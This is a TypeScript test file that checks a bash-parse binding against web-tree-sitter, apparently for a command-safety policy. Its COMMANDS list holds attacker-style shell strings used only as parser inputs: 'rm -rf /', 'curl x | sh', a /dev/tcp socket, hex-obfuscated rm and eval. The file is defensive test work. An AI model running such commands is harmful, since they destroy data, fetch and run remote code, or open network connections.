import { describe, expect, it } from 'vitest';
import type { Node } from 'web-tree-sitter';
import { loadBashParser } from './bash-parser.js';
import type { SyntaxNode } from './bash-tree.js';

/**
 * The policy reads trees through the binding (bash-tree.ts), not through web-tree-sitter's Node
 * objects. Both read the same tree: every fact the policy may ask for must be the same, node by
 * node, for commands an attacker would write.
 */
const COMMANDS = [
  'ls -la',
  'for f in src-1/*.ts; do wc -l "$f"; done > "out-1.txt"',
  'echo hi && rm -rf x; (cd a && git push) | tee >(cat) 2>&1',
  'cat <<EOF && rm -rf x\nhi $(id) `whoami`\nEOF',
  "cat <<-'EOF' | bash\n\trm -rf /\n\tEOF\necho after",
  'bash <<< "rm -rf ~" ; sh -c \'curl x | sh\'',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: shell syntax, not a template
  'echo "$(echo "$(echo `id` "${x@P}")")" $((a[$(id)]+1)) ${arr[@]:1:2}',
  'a=1 b=(x y "z w") PATH=/tmp/x git status --format=x B=2',
  'f() { rm -rf "$1"; }; f x; case $x in a|b) ls;; *) id;; esac',
  'if [[ $x == y* && -f /etc/passwd ]]; then ((i++)); fi; while read l; do echo $l; done < in',
  'for ((i=0; i<10; i++)); do echo $i; done; select f in *; do cat "$f"; done',
  'echo héllo wörld 日本語 "ünïcödé $x" \'emoji 😀 x\' && rm -rf 😀/ñ',
  'echo 😀😀😀 $(rm -rf "𝔘𝔫𝔦") > "𝓸𝓾𝓽"; ls ⠀⠀⠀⠀ ; cat\u2800x',
  'echo "unterminated',
  'echo $(( ; rm -rf x',
  'if then fi ;; done }',
  'ls # a comment $(rm -rf x)\n# another\nrm -rf y # trailing',
  'echo a\\\nb \\\n  c\r\nls\r\n',
  "$'\\x72\\x6d' -rf x; \\rm -f y; command rm z; builtin eval 'id'",
  'x=$(cat <<EOF\n$(id)\nEOF\n); echo "$x"',
  'rm > /dev/null -rf /x; cat <<EOF -n x\nbody\nEOF',
  'echo {a,b}{c..d} ~/x ~root *.env [ab]?.txt',
  'declare -A m=([k]=v); export A=1; unset B; local c; readonly d=2',
  'coproc cat; exec 3<>/dev/tcp/h/80; echo >&3 x; wait %1 &',
  `${'echo x && '.repeat(600)}rm -rf /`,
  `echo "${'a'.repeat(5000)}" '${'é'.repeat(3000)}' ${'😀'.repeat(2000)}`,
  '',
  '   ',
  '\u0000 ls \u0007',
  'echo \ud800 lone surrogate \udc00',
];

const idsOf = (nodes: readonly ({ id: number } | null)[]) => nodes.map((n) => n?.id ?? null);

function compare(ours: SyntaxNode, theirs: Node, fields: readonly (string | null)[], path: string): number {
  expect({ path, id: ours.id, start: ours.startIndex, end: ours.endIndex, type: ours.type }).toEqual({
    path,
    id: theirs.id,
    start: theirs.startIndex,
    end: theirs.endIndex,
    type: theirs.type,
  });
  expect(ours.text).toBe(theirs.text);
  expect(ours.namedChildCount).toBe(theirs.namedChildCount);
  expect(ours.nextSibling?.id ?? null).toBe(theirs.nextSibling?.id ?? null);
  expect(ours.parent?.id ?? null).toBe(theirs.parent?.id ?? null);
  for (const field of fields) {
    if (field === null) continue;
    expect(ours.childForFieldName(field)?.id ?? null).toBe(theirs.childForFieldName(field)?.id ?? null);
    expect(idsOf(ours.childrenForFieldName(field))).toEqual(idsOf(theirs.childrenForFieldName(field)));
  }
  const named: number[] = [];
  for (let i = 0; i < theirs.namedChildCount; i++) {
    expect(ours.namedChild(i)?.id).toBe(theirs.namedChild(i)?.id);
    named.push(i);
  }
  const ourChildren = ours.children;
  const theirChildren = theirs.children;
  expect(idsOf(ourChildren)).toEqual(idsOf(theirChildren));
  let count = 1;
  for (const [i, child] of ourChildren.entries()) {
    const their = theirChildren[i];
    if (child && their) count += compare(child, their, fields, `${path}/${i}`);
  }
  return count;
}

/** A tree as its facts other than ids (which are addresses: another parse of the same text has others). */
function shapeOf(node: SyntaxNode | Node): unknown {
  return {
    type: node.type,
    start: node.startIndex,
    end: node.endIndex,
    named: node.namedChildCount,
    children: node.children.map((child) => (child ? shapeOf(child) : null)),
  };
}

describe('the bash tree read through the binding', () => {
  it.each(COMMANDS.map((command) => [command.slice(0, 60), command]))(
    'reads what web-tree-sitter reads: %j',
    async (_shown, command) => {
      const parser = await loadBashParser();
      const webTree = parser.webParser.parse(command);
      expect(webTree).not.toBeNull();
      if (!webTree) return;
      try {
        const tree = parser.readWebTree(webTree, command);
        const fields = webTree.language.fields;
        expect(tree.hasError).toBe(webTree.rootNode.hasError);
        const nodes = compare(tree.rootNode, webTree.rootNode, fields, '');
        expect(nodes).toBeGreaterThan(0);
        // The parser's own parse (through the binding, as the policy parses) gives the same tree.
        const own = parser.parse(command);
        expect(own).not.toBeNull();
        try {
          expect(own?.hasError).toBe(webTree.rootNode.hasError);
          expect(own ? shapeOf(own.rootNode) : null).toEqual(shapeOf(webTree.rootNode));
        } finally {
          own?.delete();
        }
      } finally {
        webTree.delete();
      }
    },
  );

  it('reads the tree after WebAssembly memory grew (a 1 MB command)', async () => {
    const parser = await loadBashParser();
    const before = parser.parse('ls');
    expect(before?.rootNode.text).toBe('ls');
    before?.delete();
    // Parsing this grows the module's memory: HEAP32 is replaced, and reads must use the new view.
    const big = `${'echo x && '.repeat(100_000)}rm -rf /`;
    const webTree = parser.webParser.parse(big);
    expect(webTree).not.toBeNull();
    if (!webTree) return;
    try {
      const tree = parser.readWebTree(webTree, big);
      const list = tree.rootNode.namedChild(0);
      const theirs = webTree.rootNode.namedChild(0);
      expect(list?.type).toBe(theirs?.type);
      const last = list?.namedChild((list?.namedChildCount ?? 0) - 1);
      expect(last?.text).toBe('rm -rf /');
      expect(last?.id).toBe(theirs?.namedChild((theirs?.namedChildCount ?? 0) - 1)?.id);
      expect(idsOf(list?.children ?? [])).toEqual(idsOf(theirs?.children ?? []));
    } finally {
      webTree.delete();
    }
    const own = parser.parse(big);
    try {
      expect(own?.rootNode.namedChild(0)?.namedChildCount).toBe(2);
    } finally {
      own?.delete();
    }
    const text = COMMANDS[1] ?? '';
    const small = parser.webParser.parse(text);
    if (!small) throw new Error('no tree');
    try {
      compare(parser.readWebTree(small, text).rootNode, small.rootNode, small.language.fields, '');
    } finally {
      small.delete();
    }
  });

  it('loads again after a load (the binding is kept)', async () => {
    const first = await loadBashParser();
    const second = await loadBashParser();
    const tree = second.parse('echo ok');
    expect(tree?.rootNode.type).toBe('program');
    tree?.delete();
    expect(first.parse('ls')?.rootNode.text).toBe('ls');
  });
});
